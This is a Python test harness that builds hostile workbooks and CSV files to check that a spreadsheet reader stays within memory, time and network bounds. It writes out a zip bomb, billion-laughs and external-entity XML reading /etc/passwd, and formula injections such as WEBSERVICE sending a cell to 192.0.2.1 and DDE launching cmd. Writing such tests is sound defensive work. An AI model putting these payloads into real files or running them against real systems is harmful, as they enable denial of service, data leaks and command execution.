"""Workbooks made to take all memory, all time, or to call out; and a reader with bounds on it.

``python -m hostile_books NAME`` reads one in a process of its own, as a list and as a ledger, and
prints what came of it, what it took, and what it reached for.
"""

from __future__ import annotations

import io
import json
import resource
import sys
import zipfile
from contextlib import suppress
from typing import TYPE_CHECKING

from memory import peak_mb
from workbooks import sheet_xml, workbook

from geogrid.errors import GeogridError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from geogrid.sources.tables import SheetLimits

_ROWS = [["楼院编号", "户数"], ["C1", 90]]
_HEAD, _TAIL = sheet_xml(_ROWS).split("</sheetData>")
# how a sheet of another file is named in a formula, and where that file is said to lie
_ELSEWHERE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/>'
    "</Relationships>"
)
_REACHES = {"open", "socket.connect", "socket.getaddrinfo", "os.system", "subprocess.Popen"}
_CALLS = (
    "WEBSERVICE(&quot;http://192.0.2.1/?&quot;&amp;A2)",
    "cmd|'/c calc'!A1",
    "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)",
    "[1]Sheet1!A1",
    "HYPERLINK(&quot;file:///etc/passwd&quot;)",
    "IMPORTDATA(&quot;http://192.0.2.1/&quot;)",
)


def _with_sheet(pieces: Iterable[bytes]) -> bytes:
    """Return a workbook whose sheet is written piece by piece, well packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook({"甲": _ROWS}))) as plain:
        parts = {item.filename: plain.read(item) for item in plain.infolist()}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for piece in pieces:
                member.write(piece)
    return out.getvalue()


def _bomb() -> bytes:
    blank = b" " * (1 << 20)
    return _with_sheet([_HEAD.encode(), *[blank] * 2000, f"</sheetData>{_TAIL}".encode()])


def _long_cell() -> bytes:
    text = b"A" * (1 << 20)
    cell = b'<row r="3"><c r="A3" t="inlineStr"><is><t>'
    end = b"</t></is></c></row></sheetData>" + _TAIL.encode()
    return _with_sheet([_HEAD.encode(), cell, *[text] * 300, end])


def _million_rows() -> bytes:
    rows = (f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>'.encode() for n in range(3, 1_000_003))
    return _with_sheet([_HEAD.encode(), b"".join(rows), f"</sheetData>{_TAIL}".encode()])


def _million_areas() -> bytes:
    areas = "".join(f'<mergeCell ref="A{n}:A{n + 1}"/>' for n in range(2, 2_000_000, 2))
    body = f"{_HEAD}</sheetData><mergeCells>{areas}</mergeCells>{_TAIL}"
    return _with_sheet([body.encode()])


def _tall_areas() -> bytes:
    areas = "".join(f'<mergeCell ref="A2:XFD{1_048_576 - n}"/>' for n in range(20_000))
    far = '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    return _with_sheet(
        [f"{_HEAD}{far}</sheetData><mergeCells>{areas}</mergeCells>{_TAIL}".encode()]
    )


def _far_cell() -> bytes:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _with_sheet([f"{_HEAD}{far}</sheetData>{_TAIL}".encode()])


def _calls_out() -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="str"><f>{call}</f></c><c r="B{n}"><v>90</v></c></row>'
        for n, call in enumerate(_CALLS, 3)
    )
    with zipfile.ZipFile(
        io.BytesIO(_with_sheet([f"{_HEAD}{rows}</sheetData>{_TAIL}".encode()]))
    ) as z:
        parts = {item.filename: z.read(item) for item in z.infolist()}
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = _ELSEWHERE.encode()
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _entities() -> bytes:
    grown = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    kind = f'<!DOCTYPE w [<!ENTITY a0 "AAAAAAAAAA">{grown}<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _with_sheet([(kind + _HEAD + f"</sheetData>{_TAIL}").replace("C1", "&a11;&x;").encode()])


def _deep() -> bytes:
    return _with_sheet([_HEAD.encode(), b"<a>" * 2_000_000])


def _same_sheet() -> bytes:
    """A thousand sheets that are all the one large member."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(3, 20_000))
    raw = _with_sheet([f"{_HEAD}{rows}</sheetData>{_TAIL}".encode()])
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        parts = {item.filename: z.read(item) for item in z.infolist()}
    book = parts["xl/workbook.xml"].decode()
    begin, rest = book.split("<sheet ")
    sheet, end = rest.split("/>", 1)
    parts["xl/workbook.xml"] = f"{begin}{f'<sheet {sheet}/>' * 1000}{end}".encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _long_csv() -> bytes:
    return "楼院编号,户数\nC1,".encode() + b"9" * (48 << 20)


def _quoted_csv() -> bytes:
    return '楼院编号,户数\nC1,"'.encode() + b"9\n" * (20 << 20)


def _wide_csv() -> bytes:
    return "楼院编号,户数\n".encode() + b"," * (40 << 20)


def _called_csv() -> bytes:
    calls = "\n".join(f'"={call}",90' for call in ("cmd|' /C calc'!A0", "WEBSERVICE(A1)", "1+1"))
    return f"楼院编号,户数\n{calls}\n".encode("gbk")


def _many_sheets_xls() -> bytes:
    import xlwt

    book = xlwt.Workbook()
    for n in range(3):
        book.add_sheet(f"s{n}").write(65535, 255, "x")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "bomb of 2 GB": _bomb,
    "cell of 300 MB": _long_cell,
    "million rows": _million_rows,
    "million areas": _million_areas,
    "tall areas": _tall_areas,
    "cell in XFD1048576": _far_cell,
    "formulas that call out": _calls_out,
    "entities that grow": _entities,
    "two million elements deep": _deep,
    "one sheet a thousand times": _same_sheet,
    "csv cell of 48 MB": _long_csv,
    "csv with an open quote": _quoted_csv,
    "csv of 40 million columns": _wide_csv,
    "csv that calls out": _called_csv,
    "xls of far cells": _many_sheets_xls,
}


def main() -> None:
    """Read one hostile file, watched."""
    from geogrid.sources.tables import read_sheets, sheets

    raw = HOSTILE[sys.argv[1]]()
    # what is loaded late is loaded now: words, readers
    for plain in (workbook({"甲": _ROWS}), "楼院编号,户数\nC1,90\n".encode("gbk"), b"\x00"):
        with suppress(GeogridError):
            read_sheets(plain)
    reached: list[str] = []

    def watch(event: str, args: tuple[object, ...]) -> None:
        if event in _REACHES and not str(args[0]).endswith((".py", ".pyc", "/status")):
            reached.append(f"{event} {args[0]!r}"[:200])

    sys.addaudithook(watch)
    told = [_read(raw, getattr(sheets, limits)) for limits in ("LIST_LIMITS", "LEDGER_LIMITS")]
    sys.stdout.write(json.dumps({"told": told, "reached": reached}, ensure_ascii=False))


def _read(raw: bytes, limits: SheetLimits) -> dict[str, object]:
    from geogrid.sources.tables import read_sheets

    before = resource.getrusage(resource.RUSAGE_SELF)
    rows: list[list[str]] = []
    said = ""
    try:
        rows = [row for sheet in read_sheets(raw, limits) for row in sheet.rows.values()]
    except GeogridError as error:
        said = str(error)
    after = resource.getrusage(resource.RUSAGE_SELF)
    return {
        "refused": said,
        "n_rows": len(rows),
        "texts": [row[0][:50] for row in rows[:9]],
        "cpu_s": after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime,
        "peak_mb": peak_mb(),
    }


if __name__ == "__main__":
    main()
